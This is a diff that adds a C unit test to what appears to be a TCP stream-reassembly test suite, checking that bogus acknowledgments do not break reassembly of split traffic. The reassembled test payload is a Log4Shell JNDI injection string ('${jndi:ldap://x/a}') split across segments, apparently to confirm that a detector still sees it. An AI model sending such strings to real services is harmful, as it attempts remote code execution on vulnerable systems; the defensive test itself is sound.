@@ -573,6 +573,30 @@ static void greeting_that_was_lost(void **state)
     assert_true(talk_is(talk_heard(0), 0, "MAIL FROM:<a@b>"));
 }
 
+/* The host drops what acknowledges bytes that it never sent. Some of it we take; what follows must not
+ * suffer, in either direction, wherever such numbers have led us. */
+static void acknowledgments_of_nothing(void **state)
+{
+    (void)state;
+    for (uint32_t step = 1; step < UINT32_C(1) << 28; step *= 3)
+        for (unsigned side = 0; side < 2; side++) {
+            struct talk t = talk_new(4);
+
+            talk_clear();
+            talk_handshake(&t);
+            talk_say(&t, 0, "GET /");
+            talk_say(&t, 1, "and ");
+            for (uint32_t n = 1; n < 40; n++)
+                send(&t, side, ACK, t.seq[side], t.seq[!side] + n * step, NULL);
+            talk_say(&t, 0, "${jndi:");
+            talk_say(&t, 1, "so ");
+            talk_say(&t, 0, "ldap://x/a}");
+            talk_say(&t, 1, "on");
+            assert_true(talk_is(talk_heard(0), 0, "GET /${jndi:ldap://x/a}"));
+            assert_true(talk_is(talk_heard(0), 1, "and so on"));
+        }
+}
+
 static void both_open_at_once(void **state)
 {
     struct talk t = talk_new(4);
@@ -768,6 +792,7 @@ int main(void)
         TEST(acknowledgment_that_no_handshake_has),
         TEST(segment_that_ends_no_handshake),
         TEST(greeting_that_was_lost),
+        TEST(acknowledgments_of_nothing),
         TEST(both_open_at_once),
         TEST(data_in_the_answer_to_a_syn),
         TEST(more_than_four_gigabytes),
